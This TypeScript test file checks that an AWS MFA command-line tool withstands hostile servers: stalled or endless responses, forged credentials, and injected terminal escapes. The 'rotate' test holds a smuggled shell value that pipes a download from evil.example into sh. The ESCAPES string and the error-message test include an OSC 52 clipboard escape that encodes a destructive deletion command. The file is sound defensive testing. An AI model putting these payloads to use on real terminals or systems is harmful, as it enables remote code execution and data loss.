/**
 * Servers that answer badly on purpose, on loopback, against the built binary: a body trickled a
 * byte a second, a body without end, an error message full of terminal escape sequences, and
 * credentials no STS would give (expired, or with a line break or "#" in the token). Each must end
 * in bounded time with its documented exit code, one clean line on stderr, and the credentials
 * file byte for byte as it was.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { makeHome, runCli, type Home } from '../helpers/cli.js';
import { startHostile, startHostileProxy, startFakeAws, trickle, endless, credentialsAnswer, watchRss, type FakeAws, type Hostile } from '../helpers/hostile.js';
import { startFakeSts } from '../helpers/fake-sts.js';
import { readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const DEVICE = 'arn:aws:iam::123456789012:mfa/alice';
const LONG_TERM = `[w-long-term]\naws_access_key_id = AKIAHOSTILETEST00000\naws_secret_access_key = long-term-secret-do-not-leak\naws_mfa_device = ${DEVICE}\n`;

const servers: Hostile[] = [];
after(() => Promise.all(servers.map((s) => s.close())));
async function server(...a: Parameters<typeof startHostile>): Promise<Hostile> {
  const s = await startHostile(...a);
  servers.push(s);
  return s;
}

function home(endpoint: string, extra: Record<string, string> = {}): Home {
  const h = makeHome({ AWS_ENDPOINT_URL_STS: endpoint, AWS_MFA_RETRY_BASE_MS: '5', ...extra });
  h.write(LONG_TERM);
  return h;
}

const session = (args: string[] = []) => ['--profile', 'w', '--token', '123456', ...args];

/** Run the binary, timing it and watching its memory (killed past 400 MB, so a regression cannot exhaust the machine). */
async function runWatched(args: string[], env: Record<string, string>) {
  const started = Date.now();
  const run = runCli(args, { env, timeoutMs: 30_000 });
  const rss = watchRss(run.pid(), 400 * 1024);
  const r = await run;
  rss.stop();
  return { ...r, took: Date.now() - started, endedAt: Date.now(), peakKb: rss.peakKb() };
}

/**
 * The bounds that matter, measured where they happen: the stand-in saw the connection let go
 * within `cutMs` of the request, and the process ended within 5 s after that (it does not linger).
 * Not the whole run: starting the binary on a loaded machine takes seconds that are not ours.
 */
function assertCutOff(what: string, s: Hostile, r: { endedAt: number }, cutMs: number): void {
  assert.ok(s.arrivedAt !== undefined && s.closedAt !== undefined, `${what}: the stand-in saw the request and its end`);
  const cut = s.closedAt - s.arrivedAt;
  assert.ok(cut < cutMs, `${what}: the connection was let go ${cut} ms after the request (bound ${cutMs} ms)`);
  const linger = r.endedAt - s.closedAt;
  assert.ok(linger < 5000, `${what}: the process ended ${linger} ms after it let the connection go`);
}

test('a body trickled a byte a second ends at --read-timeout: exit 5, a clear message, nothing written', async () => {
  const s = await server(trickle);
  const h = home(s.endpoint);
  const r = await runWatched(session(['--read-timeout', '2']), h.env);
  const took = r.took;
  assert.equal(r.code, 5, `exit ${r.code} after ${took} ms: ${r.stderr}`);
  assert.match(r.stderr, /AWS did not answer GetSessionToken within the read timeout; check the network and proxy, or raise --read-timeout/);
  assertCutOff('--read-timeout 2', s, r, 2000 + 2000);
  assert.ok(s.sent >= 1, 'the stand-in was trickling when it was cut off');
  assert.equal(h.read(), LONG_TERM);
});

test('an endless body is cut at 1 MiB: exit 5 at once, memory stays small, nothing written', async () => {
  const s = await server(endless);
  const h = home(s.endpoint);
  const r = await runWatched(session(), h.env);
  const took = r.took;
  assert.equal(r.code, 5, `exit ${r.code} after ${took} ms, peak RSS ${r.peakKb} kB: ${r.stderr}`);
  assert.match(r.stderr, /the answer to GetSessionToken grew far larger than any AWS answer \(a few KB\): something other than AWS answered; check AWS_ENDPOINT_URL/);
  assertCutOff('endless', s, r, 3000);
  assert.ok(r.peakKb < 250 * 1024, `peak RSS ${r.peakKb} kB`);
  assert.equal(h.read(), LONG_TERM);
});

test('a proxy whose answer to CONNECT trickles or never ends: exit 5 in bounded time, and aws-mfa does not linger', async () => {
  for (const [mode, message] of [
    ['trickle', /AWS did not answer GetSessionToken within the read timeout/],
    ['endless', /the answer to GetSessionToken grew far larger than any AWS answer/],
  ] as const) {
    const proxy = await startHostileProxy(mode);
    servers.push(proxy);
    // an HTTPS endpoint, so the request goes through a CONNECT tunnel (nothing listens there: the proxy never gets that far)
    const h = home('https://127.0.0.1:9', { HTTPS_PROXY: proxy.endpoint });
    // (the SDK's handler leaves its connect timer running when a request fails before it has a
    // socket, so the process ends within --connect-timeout + --read-timeout, not --read-timeout)
    const r = await runWatched(session(['--read-timeout', '2', '--connect-timeout', '1']), h.env);
    assert.equal(r.code, 5, `${mode}: exit ${r.code} after ${r.took} ms, peak RSS ${r.peakKb} kB: ${r.stderr}`);
    assert.match(r.stderr, message, mode);
    assertCutOff(mode, proxy, r, 1000 + 2000 + 2000);
    assert.equal(proxy.requests, 1, `${mode}: the CONNECT reached the proxy`);
    assert.equal(h.read(), LONG_TERM);
  }
});

test('console: the federation endpoint trickling or answering without end is cut off too (exit 5)', async () => {
  const role = 'arn:aws:iam::123456789012:role/r';
  const exp = new Date(Date.now() + 3600_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
  const cached = `${LONG_TERM}\n[w]\naws_access_key_id = ASIACACHED0000000000\naws_secret_access_key = cachedsecret\naws_session_token = cachedtoken\nexpiration = ${exp}\nassumed_role_arn = ${role}\n`;
  for (const [name, behaviour, message] of [
    ['trickle', trickle, /AWS did not answer getSigninToken within the read timeout/],
    ['endless', endless, /the answer to getSigninToken grew far larger than any AWS answer/],
  ] as const) {
    const s = await server(behaviour);
    const h = makeHome({ AWS_MFA_FEDERATION_URL: `${s.endpoint}/federation`, BROWSER: 'true' });
    h.write(cached);
    const r = await runWatched(['console', '--profile', 'w', '--assume-role', role, '--read-timeout', '2', '--print'], h.env);
    const took = r.took;
    assert.equal(r.code, 5, `${name}: exit ${r.code} after ${took} ms: ${r.stderr}`);
    assert.match(r.stderr, message, name);
    assertCutOff(name, s, r, 2000 + 2000);
    assert.equal(r.stdout, '', name);
  }
});

test('an AWS error message with OSC 52 and screen-clearing escapes reaches the terminal escaped', async () => {
  const fake = await startFakeSts();
  servers.push({ endpoint: fake.endpoint, requests: 0, sent: 0, close: () => fake.close() });
  fake.script({ error: 'AccessDenied', message: 'Denied\x1b]52;c;cm0gLXJmIH4K\x07 then \x1b[2J\x1b[H cleared\x9b2J and \u202eevil' });
  const h = home(fake.endpoint);
  const r = await runCli(session(), { env: h.env });
  assert.equal(r.code, 4, r.stderr);
  assert.ok(!/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/.test(r.stderr), `no control character reaches stderr: ${JSON.stringify(r.stderr)}`);
  assert.match(r.stderr, /AWS denied GetSessionToken: Denied\\x1b\]52;c;cm0gLXJmIH4K\\x07 then \\x1b\[2J\\x1b\[H cleared\\x9b2J and \\u202eevil/);
  for (const line of r.stderr.trimEnd().split('\n')) assert.match(line, /^aws-mfa: /, 'every line is one of ours');
  assert.equal(h.read(), LONG_TERM);
});

test('an expired session from STS is an AWS error: exit 4, nothing written, and no "Success"', async () => {
  const fake = await startFakeSts();
  servers.push({ endpoint: fake.endpoint, requests: 0, sent: 0, close: () => fake.close() });
  fake.script({ ok: 'GetSessionToken', expiresInSeconds: -1795350970 });
  const h = home(fake.endpoint);
  const r = await runCli(session(), { env: h.env });
  assert.equal(r.code, 4, r.stderr);
  assert.match(r.stderr, /GetSessionToken answered a session that expired at \d{4}-\d\d-\d\dT[\d:]+Z, before now \([^)]+ by this computer's clock\); nothing was written/);
  assert.doesNotMatch(r.stderr + r.stdout, /Success|expire in -/);
  assert.equal(h.read(), LONG_TERM, 'the credentials file is byte-identical');
});

test('credentials with a line break, "#", ";", a space or an escape in them are refused before any write', async () => {
  const cases: Array<[Parameters<typeof credentialsAnswer>[0], RegExp]> = [
    [{ sessionToken: 'abc\n[default]\naws_access_key_id = AKIAEVIL' }, /SessionToken that cannot be a credential: it holds U\+000A/],
    [{ sessionToken: 'abc#comment' }, /SessionToken .* holds "#"/],
    [{ secretAccessKey: 'abc;def' }, /SecretAccessKey .* holds ";"/],
    [{ secretAccessKey: 'abc def' }, /SecretAccessKey .* holds U\+0020/],
    [{ sessionToken: 'tok\x1b]52;c;eA==\x07' }, /SessionToken .* holds U\+001B/],
    [{ accessKeyId: 'ASIA' }, /AccessKeyId .* is not 16 to 128 letters/],
    [{ sessionToken: 'x'.repeat(20_000) }, /SessionToken .* is 20000 characters long, more than 16384/],
  ];
  for (const [answer, message] of cases) {
    const s = await server(credentialsAnswer(answer));
    const h = home(s.endpoint);
    const r = await runCli(session(), { env: h.env });
    assert.equal(r.code, 4, `${JSON.stringify(answer).slice(0, 60)}: ${r.stderr}`);
    assert.match(r.stderr, message);
    assert.match(r.stderr, /nothing was written/);
    assert.ok(!/[\x00-\x08\x0b-\x1f]/.test(r.stderr), 'the bad value is not echoed');
    assert.equal(h.read(), LONG_TERM, 'the credentials file is byte-identical');
  }
  // the stand-in itself is fine when the values are: the checks are not too strict
  const s = await server(credentialsAnswer({}));
  const h = home(s.endpoint);
  const r = await runCli(session(), { env: h.env });
  assert.equal(r.code, 0, r.stderr);
  assert.match(h.read(), /aws_session_token = token/);
});

// Values from IAM and STS that no AWS would send: an OSC 52 clipboard write, a line erase, a
// title change and a U+202E direction override, and line feeds that would forge lines of output.
const ESCAPES = '\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\x1b]0;owned\x07\u202e';
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/;

async function fakeAws(script: Parameters<typeof startFakeAws>[0]): Promise<FakeAws> {
  const s = await startFakeAws(script);
  servers.push(s);
  return s;
}

/** A home whose IAM and STS are the stand-in. */
function awsHome(s: FakeAws): Home {
  return home(s.endpoint, { AWS_ENDPOINT_URL: s.endpoint, AWS_REGION: 'us-east-1' });
}

function assertClean(r: { stdout: string; stderr: string }, what: string): void {
  assert.ok(!CONTROL.test(r.stderr), `${what}: no control character reaches stderr: ${JSON.stringify(r.stderr)}`);
  assert.ok(!CONTROL.test(r.stdout), `${what}: no control character reaches stdout: ${JSON.stringify(r.stdout)}`);
}

const CODES = ['--code1', '123456', '--code2', '654321'];

test('device create: a serial from IAM with escape sequences is refused, never shown nor written to aws_mfa_device (exit 4)', async () => {
  for (const extra of [[], ['--show-secret']]) {
    const s = await fakeAws({ serial: `arn:aws:iam::123456789012:mfa/alice${ESCAPES}` });
    const h = awsHome(s);
    const r = await runCli(['device', 'create', '--profile', 'w', ...CODES, ...extra], { env: h.env });
    assert.equal(r.code, 4, `${extra}: ${r.stderr}`);
    assertClean(r, `device create ${extra}`);
    assert.match(r.stderr, /CreateVirtualMFADevice answered a SerialNumber that is not an MFA device ARN; nothing was shown or written/);
    assert.equal(r.stdout, '', 'no seed printed');
    assert.ok(!s.actions.includes('EnableMFADevice'), 'the device is not enabled');
    assert.equal(h.read(), LONG_TERM, 'the credentials file is byte-identical');
  }
});

test('device create --show-secret: a seed that is not Base32 is refused, never printed, and the device deleted again (exit 4)', async () => {
  const s = await fakeAws({ seed: `JBSWY3DPEHPK3PXP${ESCAPES}JBSWY3DPEHPK3PXP` });
  const h = awsHome(s);
  const r = await runCli(['device', 'create', '--profile', 'w', '--show-secret', ...CODES], { env: h.env });
  assert.equal(r.code, 4, r.stderr);
  assertClean(r, 'seed');
  assert.equal(r.stdout, '', 'the seed is not printed');
  assert.doesNotMatch(r.stderr, /JBSWY3DP/, 'nor shown in the message');
  assert.match(r.stderr, /CreateVirtualMFADevice answered a Base32StringSeed that is not a Base32 seed; nothing was shown or written\. .*; the unassigned device arn:aws:iam::123456789012:mfa\/alice was deleted again/);
  assert.deepEqual(s.actions.filter((a) => /MFA/.test(a)), ['CreateVirtualMFADevice', 'DeleteVirtualMFADevice']);
  assert.equal(h.read(), LONG_TERM);
});

test('device list and init: a listed serial with escapes or a line feed is refused, never shown nor written (exit 4)', async () => {
  for (const bad of [`arn:aws:iam::123456789012:mfa/alice${ESCAPES}`, 'arn:aws:iam::123456789012:mfa/alice\n  arn:aws:iam::123456789012:mfa/forged']) {
    const s = await fakeAws({ listed: [bad] });
    const h = awsHome(s);
    const list = await runCli(['device', 'list', '--profile', 'w'], { env: h.env });
    assert.equal(list.code, 4, list.stderr);
    assertClean(list, 'device list');
    assert.doesNotMatch(list.stdout, /forged/);
    assert.match(list.stderr, /ListMFADevices answered a SerialNumber that is not an MFA device serial/);
    // init with the same key: the one device IAM lists would be taken and written to aws_mfa_device
    h.write('');
    const args = ['init', '--profile', 'w', '--access-key-id', 'AKIAHOSTILETEST00000', '--secret-access-key-stdin', '--region', 'us-east-1'];
    const init = await runCli(args, { env: h.env, input: 'long-term-secret-do-not-leak\n' });
    assert.equal(init.code, 4, init.stderr);
    assertClean(init, 'init');
    assert.match(init.stderr, /ListMFADevices answered a SerialNumber/);
    assert.doesNotMatch(h.read(), /aws_mfa_device|\x1b|forged/, 'no serial reaches the credentials file');
    assert.doesNotMatch(init.stderr + init.stdout, /long-term-secret-do-not-leak/);
  }
});

test('whoami: an ARN with a line feed from STS cannot forge "MFA: yes" or "Account:" lines; the ARN and account are checked (exit 4)', async () => {
  const exp = new Date(Date.now() + 3600_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
  const cached = `${LONG_TERM}\n[w]\naws_access_key_id = ASIACACHED0000000000\naws_secret_access_key = cachedsecret\naws_session_token = cachedtoken\nexpiration = ${exp}\n`;
  const forged = 'arn:aws:sts::123456789012:assumed-role/r/s\nMFA:      yes (forged)\nAccount:  999999999999';
  for (const script of [{ arn: forged }, { arn: `arn:aws:iam::123456789012:user/alice${ESCAPES}` }, { account: '123456789012\nMFA:      yes' }, { userId: `AIDA${ESCAPES}` }]) {
    const s = await fakeAws(script);
    const h = awsHome(s);
    h.write(cached);
    const r = await runCli(['whoami', '--profile', 'w'], { env: h.env });
    const what = JSON.stringify(script);
    assert.equal(r.code, 4, `${what}: ${r.stderr}`);
    assertClean(r, what);
    assert.doesNotMatch(r.stdout, /^(MFA|Account):/m, `${what}: no forged line`);
    assert.match(r.stderr, /GetCallerIdentity answered a (Arn|Account|UserId) that is not/);
    assert.equal(h.read(), cached);
  }
  // the stand-in itself is fine when its values are: one line per field
  const s = await fakeAws({ arn: 'arn:aws:sts::123456789012:assumed-role/r/s' });
  const h = awsHome(s);
  h.write(cached);
  const r = await runCli(['whoami', '--profile', 'w'], { env: h.env });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^ARN: +arn:aws:sts::123456789012:assumed-role\/r\/s$/m);
  assert.equal(r.stdout.trimEnd().split('\n').length, 6, r.stdout);
});

test('rotate: a key id or a user name from AWS that would be a shell command in the commands it suggests is refused (exit 4), no key made or changed', async () => {
  const injection = ';curl${IFS}-s${IFS}evil.example|sh;#';
  for (const script of [
    { accessKeys: ['AKIAHOSTILETEST00000', `AKIAX${injection}`] },
    { arn: `arn:aws:iam::123456789012:user/alice${injection}`, accessKeys: ['AKIAHOSTILETEST00000', 'AKIAOTHERKEY00000000'] },
  ]) {
    const s = await fakeAws(script);
    const h = awsHome(s);
    const before = h.read();
    for (const lang of ['en', 'ja']) {
      const r = await runCli(['rotate', '--profile', 'w', '--token', '123456'], { env: { ...h.env, AWS_MFA_LANG: lang } });
      const what = `${JSON.stringify(script)} (${lang})`;
      assert.equal(r.code, 4, `${what}: ${r.stderr}`);
      assert.match(r.stderr, /(ListAccessKeys|GetCallerIdentity) .*(AccessKeyId|Arn)/, what);
      assert.doesNotMatch(r.stdout + r.stderr, /curl|evil/, `${what}: the value is never shown`);
      const errors = r.stderr.split('\n').filter((l) => /^aws-mfa: (error|エラー):/.test(l));
      assert.equal(errors.length, 1, `${what}: one error line: ${r.stderr}`);
    }
    assert.ok(!s.actions.includes('CreateAccessKey') && !s.actions.some((a) => a.startsWith('Delete')), s.actions.join());
    // the session it got first is kept in [w]; the long-term key is as it was
    assert.ok(h.read().startsWith(before), h.read());
  }
});

test('--qr-png never replaces an existing file without --overwrite, nor the credentials or config file even with it: exit 3 before any AWS call', async () => {
  for (const command of [['device', 'create'], ['init', '--access-key-id', 'AKIAHOSTILETEST00000', '--secret-access-key-stdin']]) {
    const s = await fakeAws({});
    const h = awsHome(s);
    const input = 'long-term-secret-do-not-leak\n';
    const there = join(h.dir, 'there.png');
    writeFileSync(there, 'mine');
    const r = await runCli([...command, '--profile', 'w', '--qr-png', there, ...CODES], { env: h.env, input });
    assert.equal(r.code, 3, `${command[0]}: ${r.stderr}`);
    assert.equal(r.stderr.trimEnd().split('\n').length, 1, r.stderr);
    // the fix repeats every option given but the codes, stale when pasted (the secret never is one: it comes on stdin)
    const fix = `aws-mfa ${command.join(' ')} --qr-png ${there} --overwrite --profile w`;
    assert.ok(r.stderr.includes(`${there} already exists and aws-mfa does not replace files; give a new name, or replace it: ${fix}`), r.stderr);
    assert.equal(readFileSync(there, 'utf8'), 'mine');
    // the files aws-mfa reads, by their path or through a link, with or without --overwrite
    const link = join(h.dir, 'qr-link.png');
    symlinkSync(h.credentials, link);
    writeFileSync(h.config, '[profile w]\nregion = us-east-1\n');
    for (const target of [h.credentials, link, h.config]) {
      for (const overwrite of [[], ['--overwrite']]) {
        const refused = await runCli([...command, '--profile', 'w', '--qr-png', target, ...overwrite, ...CODES], { env: h.env, input });
        assert.equal(refused.code, 3, `${target} ${overwrite}: ${refused.stderr}`);
        assert.match(refused.stderr, /is .*, which aws-mfa reads: it never writes a QR code over it; give another name$/m);
      }
    }
    assert.deepEqual(s.actions, [], 'nothing was asked of AWS');
    assert.equal(h.read(), LONG_TERM, 'the credentials file is byte-identical');
    assert.equal(readFileSync(h.config, 'utf8'), '[profile w]\nregion = us-east-1\n');
  }
  // a new name is created (0600); an existing file is replaced only with --overwrite
  const s = await fakeAws({});
  const h = awsHome(s);
  const png = join(h.dir, 'mfa.png');
  const created = await runCli(['device', 'create', '--profile', 'w', '--qr-png', png, ...CODES], { env: h.env });
  assert.equal(created.code, 0, created.stderr);
  assert.equal(statSync(png).mode & 0o777, 0o600);
  assert.equal(readFileSync(png).subarray(1, 4).toString(), 'PNG');
  writeFileSync(png, 'mine');
  const again = await runCli(['device', 'create', '--profile', 'w', '--qr-png', png, ...CODES], { env: h.env });
  assert.equal(again.code, 3, again.stderr);
  assert.equal(readFileSync(png, 'utf8'), 'mine');
  const replaced = await runCli(['device', 'create', '--profile', 'w', '--qr-png', png, '--overwrite', ...CODES], { env: h.env });
  assert.equal(replaced.code, 0, replaced.stderr);
  assert.equal(readFileSync(png).subarray(1, 4).toString(), 'PNG');
});
